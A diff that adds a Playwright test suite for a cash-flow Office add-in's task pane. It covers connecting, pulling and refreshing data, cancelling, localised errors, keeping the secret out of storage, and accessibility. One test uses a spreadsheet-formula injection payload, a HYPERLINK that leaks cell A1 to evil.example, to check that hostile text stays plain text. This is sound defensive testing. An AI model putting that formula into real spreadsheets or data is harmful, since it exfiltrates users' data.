@@ -1,0 +1,219 @@
+/**
+ * The task pane in the preview, as a user drives it: the demo connection, pulls compared with the sandbox,
+ * refresh after a change, cancel, failures in the user's language, Italian, hostile text, reload, where the
+ * secret is (not), accessibility in both themes, and the README's screenshots.
+ */
+import type { Page } from 'playwright-core';
+import { de, en, it as italian } from '../../src/i18n/catalog';
+import { eventually, expectAccessible, expectClean, OFFICE_JS_TELEMETRY, newSession, openPreview, pane, previewApi, saveScreenshot, screenshotPane, startApp, type App, type Session } from './support';
+
+let app: App;
+let session: Session;
+
+beforeAll(async () => {
+  app = await startApp({ transactions: 3000 });
+});
+afterAll(async () => {
+  await app?.close();
+});
+beforeEach(async () => {
+  session = await newSession(app.browser);
+});
+afterEach(async () => {
+  app.sandbox.normalResponses();
+  await session?.close();
+});
+
+async function connectDemo(page: Page): Promise<void> {
+  await pane(page).getByRole('button', { name: en['pane.connect.demo'] }).click();
+  await pane(page).getByText(en['pane.state.online'], { exact: true }).waitFor();
+}
+
+async function load(page: Page, table: string, action: 'Load' | 'Refresh' = 'Load'): Promise<void> {
+  await pane(page).getByRole('tab', { name: en['pane.tab.data'] }).click();
+  await pane(page).getByRole('button', { name: `${action} ${table}`, exact: true }).click();
+  await pane(page).getByRole('button', { name: `Refresh ${table}`, exact: true }).waitFor({ timeout: 60_000 });
+  await eventually(async () => expect(await pane(page).getByRole('button', { name: `Refresh ${table}`, exact: true }).isEnabled()).toBe(true), { timeoutMs: 60_000 });
+}
+
+async function serviceCount(path: string): Promise<number> {
+  const token = await fetch(new URL('auth/token/', app.sandbox.url), {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ grant_type: 'client_credentials', client_id: app.sandbox.credentials.clientId, client_secret: app.sandbox.credentials.clientSecret }),
+  });
+  const { access_token } = (await token.json()) as { access_token: string };
+  const page = await fetch(new URL(`${path}?page_size=1`, app.sandbox.url), { headers: { authorization: `Bearer ${access_token}` } });
+  return ((await page.json()) as { count: number }).count;
+}
+
+test('demo: connect, load transactions and invoices (row counts as the service has them), refresh after the service changed', async () => {
+  const { page } = session;
+  await openPreview(page, app.url, app.sandbox.url);
+  await connectDemo(page);
+  const preview = previewApi(page);
+
+  await load(page, 'Transactions');
+  expect(await preview.tableRowCount('Transactions')).toBe(await serviceCount('transactions/extended/'));
+  await load(page, 'Invoices');
+  expect(await preview.tableRowCount('Invoices')).toBe(await serviceCount('invoices/'));
+  await expect(page.getByTestId('preview-status').textContent()).resolves.toMatch(/Invoices/);
+
+  const before = (await preview.tableRowCount('Transactions')) ?? 0;
+  await app.sandbox.addTransaction({ amount: '-12.34', purpose: 'Added while the workbook was open' });
+  await load(page, 'Transactions', 'Refresh');
+  await eventually(async () => expect(await preview.tableRowCount('Transactions')).toBe(before + 1));
+  await expect(pane(page).getByText('changes only').first().isVisible()).resolves.toBe(true);
+  expectClean(session, [OFFICE_JS_TELEMETRY]);
+});
+
+test('cancel mid-pull: the previous table stays and the pane says so', async () => {
+  const { page } = session;
+  await openPreview(page, app.url, app.sandbox.url);
+  await connectDemo(page);
+  const preview = previewApi(page);
+  await load(page, 'Transactions');
+  const rows = await preview.tableRowCount('Transactions');
+  const firstCell = await preview.cellText('Transactions', 1, 0);
+
+  app.sandbox.slowResponses(400);
+  await pane(page).getByRole('button', { name: `More for Transactions` }).click();
+  await pane(page).getByRole('menuitem', { name: en['pane.data.fullRefresh'] }).click();
+  await pane(page).getByRole('progressbar').waitFor();
+  await pane(page).getByRole('button', { name: en['pane.progress.cancel'] }).click();
+  await pane(page).getByText('Transactions: cancelled.').first().waitFor();
+  await expect(pane(page).getByText(en['pane.data.keptTable']).first().isVisible()).resolves.toBe(true);
+  expect(await preview.tableRowCount('Transactions')).toBe(rows);
+  expect(await preview.cellText('Transactions', 1, 0)).toBe(firstCell);
+  expectClean(session, [OFFICE_JS_TELEMETRY]);
+});
+
+test('wrong credentials and the edition without the API show their messages; Italian changes the pane and the service', async () => {
+  const { page } = session;
+  await openPreview(page, app.url, app.sandbox.url);
+  const p = pane(page);
+  // First run: no connection yet, so the form is open.
+  const englishForm = p.getByRole('form', { name: en['pane.connect.new'] });
+  await englishForm.getByLabel(en['pane.connect.field.name']).fill('ACME');
+  await englishForm.getByLabel(en['pane.connect.field.baseUrl']).fill(app.sandbox.url);
+  await englishForm.getByLabel(en['pane.connect.field.clientId']).fill('demo-company');
+  await englishForm.getByLabel(en['pane.connect.field.secret']).fill('wrong');
+  await englishForm.getByRole('button', { name: en['pane.connect.connect'] }).click();
+  await p.getByText(en['connect.error.credentials']).waitFor();
+
+  await p.getByRole('tab', { name: en['pane.tab.settings'] }).click();
+  await p.getByRole('combobox', { name: en['pane.settings.language'] }).click();
+  await p.getByRole('option', { name: 'Italiano' }).click();
+  await p.getByRole('tab', { name: italian['pane.tab.connect'] }).click();
+  await expect(p.getByRole('button', { name: italian['pane.connect.demo'] }).isVisible()).resolves.toBe(true);
+
+  const basic = app.sandbox.running.credentials.basic;
+  await p.getByRole('button', { name: italian['pane.connect.new'] }).click();
+  const form = p.getByRole('form', { name: italian['pane.connect.new'] });
+  await form.getByLabel(italian['pane.connect.field.name']).fill('Base');
+  await form.getByLabel(italian['pane.connect.field.baseUrl']).fill(app.sandbox.url);
+  await form.getByLabel(italian['pane.connect.field.clientId']).fill(basic.clientId);
+  await form.getByLabel(italian['pane.connect.field.secret']).fill(basic.clientSecret);
+  await form.getByRole('button', { name: italian['pane.connect.connect'] }).click();
+  await p.getByText(italian['connect.error.edition']).waitFor();
+  // The service's own words, in Italian because the pane sent Accept-Language: it.
+  await expect(p.getByTestId('service-said').textContent()).resolves.toContain('Il suo piano non include questa funzione.');
+  expect(de['connect.error.edition']).not.toBe(italian['connect.error.edition']);
+  // The refused token request and the refused read are the browser's own console lines for HTTP 400/403.
+  expectClean(session, [OFFICE_JS_TELEMETRY, /^Failed to load resource: the server responded with a status of 40[03] /]);
+});
+
+test('a hostile purpose shows as text in the grid, never as a formula', async () => {
+  const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+  await app.sandbox.addTransaction({ amount: '-1.00', purpose: hostile });
+  const { page } = session;
+  await openPreview(page, app.url, app.sandbox.url);
+  await connectDemo(page);
+  await load(page, 'Transactions');
+  const preview = previewApi(page);
+  const cell = await preview.findCell('Transactions', hostile);
+  expect(cell).toMatchObject({ valueType: 'String' });
+  expect(await preview.cellText('Transactions', cell?.row ?? -1, cell?.col ?? -1)).toBe(hostile);
+  expectClean(session, [OFFICE_JS_TELEMETRY]);
+});
+
+test('a reload keeps the workbook; with "remember" off it asks only for the secret, which is in no setting or cell', async () => {
+  const { page } = session;
+  const secret = app.sandbox.credentials.clientSecret;
+  await openPreview(page, app.url, app.sandbox.url);
+  const p = pane(page);
+  const form = p.getByRole('form', { name: en['pane.connect.new'] });
+  await form.getByLabel(en['pane.connect.field.name']).fill('Our company');
+  await form.getByLabel(en['pane.connect.field.baseUrl']).fill(app.sandbox.url);
+  await form.getByLabel(en['pane.connect.field.clientId']).fill(app.sandbox.credentials.clientId);
+  await form.getByLabel(en['pane.connect.field.secret']).fill(secret);
+  await form.getByRole('checkbox', { name: en['pane.connect.remember'] }).uncheck();
+  await form.getByRole('button', { name: en['pane.connect.connect'] }).click();
+  await p.getByText(en['pane.state.online'], { exact: true }).waitFor();
+  await load(page, 'Categories');
+  const preview = previewApi(page);
+  const rows = await preview.tableRowCount('Categories');
+  await preview.saved();
+
+  // Nowhere in the workbook: not in a document setting, not in any cell of any sheet (hidden ones included).
+  expect(await preview.settingsJson()).not.toContain(secret);
+  expect(await preview.settingsJson()).toContain('Our company');
+  expect(await preview.sheetsContaining(secret)).toEqual([]);
+  // Nor in the browser's storage, since "remember" was off.
+  const frame = page.frameLocator('#pane');
+  expect(await frame.locator('body').evaluate(() => JSON.stringify({ ...window.localStorage }))).not.toContain(secret);
+
+  await page.reload();
+  await page.waitForFunction(() => window.cashflowPreview !== undefined);
+  expect(await preview.tableRowCount('Categories')).toBe(rows);
+  const card = p.getByRole('form', { name: 'Our company' });
+  await card.getByLabel(en['pane.connect.field.secret']).fill(secret);
+  await card.getByRole('button', { name: 'Connect to Our company' }).click();
+  await p.getByText(en['pane.state.online'], { exact: true }).waitFor();
+  await p.getByRole('tab', { name: en['pane.tab.data'] }).click();
+  await expect(p.getByRole('button', { name: 'Refresh Categories', exact: true }).isVisible()).resolves.toBe(true);
+  expectClean(session, [OFFICE_JS_TELEMETRY]);
+});
+
+/** axe inside the pane's frame only (the whole page is checked once per theme). */
+const PANE = { include: ['#pane'] };
+
+describe.each(['light', 'dark'] as const)('%s theme', (theme) => {
+  test('every view has no serious or critical accessibility violation; screenshots for the README', async () => {
+    const { page } = session;
+    await page.setViewportSize({ width: 1280, height: 860 });
+    // Fluent's toasts and tabs fade in: axe would measure contrast half-way through an animation.
+    await page.emulateMedia({ reducedMotion: 'reduce' });
+    await openPreview(page, app.url, app.sandbox.url, { theme });
+    const p = pane(page);
+    await p.getByRole('button', { name: en['pane.connect.demo'] }).waitFor();
+    await expectAccessible(page, PANE);
+    await screenshotPane(page, `pane-connect-${theme}`);
+
+    await connectDemo(page);
+    await p.getByRole('tab', { name: en['pane.tab.overview'] }).click();
+    await p.getByText(en['pane.overview.balanceToday']).waitFor();
+    await p.getByRole('figure').or(p.locator('svg')).first().waitFor();
+    await expectAccessible(page, PANE);
+    await screenshotPane(page, `pane-overview-${theme}`);
+
+    await p.getByRole('tab', { name: en['pane.tab.data'] }).click();
+    await expectAccessible(page, PANE);
+    app.sandbox.slowResponses(1500);
+    await p.getByRole('button', { name: 'Load Transactions', exact: true }).click();
+    await p.getByText(/page \d+ of \d+/).first().waitFor();
+    await screenshotPane(page, `pane-data-pulling-${theme}`);
+    await expectAccessible(page, PANE);
+    app.sandbox.normalResponses();
+    await p.getByRole('button', { name: 'Refresh Transactions', exact: true }).waitFor({ timeout: 60_000 });
+
+    await p.getByRole('tab', { name: en['pane.tab.settings'] }).click();
+    await expectAccessible(page, PANE);
+    await p.getByRole('tab', { name: en['pane.tab.connection'] }).click();
+    await expectAccessible(page, PANE);
+    // The preview page itself (workbook, tabs, status bar) with the pane beside it.
+    await expectAccessible(page);
+    if (theme === 'light') await saveScreenshot(page, 'preview-transactions');
+    expectClean(session, [OFFICE_JS_TELEMETRY]);
+  });
+});
